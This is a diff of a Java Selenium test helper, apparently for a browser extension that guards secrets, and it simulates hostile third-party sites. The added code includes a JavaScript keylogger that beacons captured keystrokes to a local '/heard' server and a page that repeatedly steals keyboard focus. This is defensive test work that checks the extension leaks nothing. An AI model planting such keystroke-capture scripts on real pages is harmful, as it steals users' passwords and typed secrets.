@@ -7,7 +7,10 @@ import java.io.IOException;
 import java.net.InetAddress;
 import java.net.InetSocketAddress;
 import java.nio.charset.StandardCharsets;
+import java.util.List;
 import java.util.Map;
+import java.util.Queue;
+import java.util.concurrent.ConcurrentLinkedQueue;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
 import org.openqa.selenium.JavascriptExecutor;
@@ -16,31 +19,20 @@ import org.openqa.selenium.JavascriptExecutor;
 abstract class OtherSites extends AtTheBank {
     static final String SECRET = "kagi-No-4711";
 
-    /** By path: what takes the keyboard by itself, over and over; what opens windows; the same in a sandbox, and so are they. */
+    /** Tells the other site what it hears. */
+    private static final String LISTEN = """
+            for (const type of ['keydown', 'beforeinput', 'input']) for (const target of [window, document])
+              target.addEventListener(type, ({key, data}) => navigator.sendBeacon('%s/heard', `${type} ${key ?? data}`), {capture: true});
+            """;
+
+    /** By path: what takes the keyboard by itself, over and over; what does nothing; what has a frame in a sandbox, from which to open windows. */
     private static final Map<String, String> PAGES = Map.of(
-            "/taker", """
-                    <input id=trap>
-                    <script>
-                    for (const type of ['keydown', 'input'])
-                      addEventListener(type, ({key, data}) => (opener ?? parent).postMessage(key ?? data, '*'), {capture: true});
-                    setInterval(() => { window.focus(); document.getElementById('trap').focus(); }, 5);
-                    </script>""",
+            "/taker", "<input id=trap><script>setInterval(() => { window.focus(); document.getElementById('trap').focus(); }, 5);"
+                    + LISTEN.formatted("") + "</script>",
             "/opener", "<h1>opener</h1>",
             "/sandbox", "<iframe sandbox='allow-scripts allow-same-origin allow-popups allow-forms' src='/opener'></iframe>");
 
-    /** Keeps what it hears where it can be read later: the page itself may be gone. */
-    static final String LISTENER = """
-            <input id=field>
-            <script>
-            localStorage.clear();
-            const hear = (word) => localStorage.setItem('loot', (localStorage.getItem('loot') ?? '') + ' ' + word);
-            addEventListener('message', ({data}) => hear(data));
-            for (const type of ['keydown', 'keypress', 'keyup', 'beforeinput', 'input'])
-              for (const target of [window, document])
-                target.addEventListener(type, ({key, data}) => hear(key ?? data), {capture: true});
-            </script>
-            """;
-
+    final Queue<String> heard = new ConcurrentLinkedQueue<>();
     private HttpServer elsewhere;
 
     @BeforeEach
@@ -53,6 +45,11 @@ abstract class OtherSites extends AtTheBank {
             exchange.getResponseBody().write(page);
             exchange.close();
         }));
+        elsewhere.createContext("/heard", exchange -> {
+            heard.add(new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
+            exchange.sendResponseHeaders(204, -1);
+            exchange.close();
+        });
         elsewhere.start();
     }
 
@@ -64,6 +61,22 @@ abstract class OtherSites extends AtTheBank {
     /** An address of another site. @param path /taker, /opener or /sandbox */
     String elsewhere(String path) {
         return "http://127.0.0.1:" + elsewhere.getAddress().getPort() + path;
+    }
+
+    /** For a page of the bank's. */
+    String listener() {
+        return "<input id=field><script>" + LISTEN.formatted(elsewhere("")) + "</script>";
+    }
+
+    /** That a listener of {@link #listener()} is heard is shown by what a key in the page does. */
+    void assertHears(BankBrowser browser) {
+        new Typist(browser).type(bank.url().toString(), "x");
+        browser.until(_ -> heard.contains("keydown x"));
+        heard.clear();
+    }
+
+    void assertNothingHeard() {
+        assertThat(List.copyOf(heard)).isEmpty();
     }
 
     static Object run(BankBrowser browser, String script) {
@@ -79,11 +92,5 @@ abstract class OtherSites extends AtTheBank {
     static boolean isInFront(BankBrowser browser) {
         return browser.worker().evaluate("chrome.tabs.query({active: true, url: chrome.runtime.getURL('*')}).then((tabs) => tabs.length === 1)")
                 .asBoolean();
-    }
-
-    /** Nothing: in a page of the bank's, whichever. */
-    void assertNoLoot(BankBrowser browser) {
-        browser.open(bank.url().resolve("/help").toString());
-        assertThat(run(browser, "return localStorage.getItem('loot')")).isNull();
     }
 }
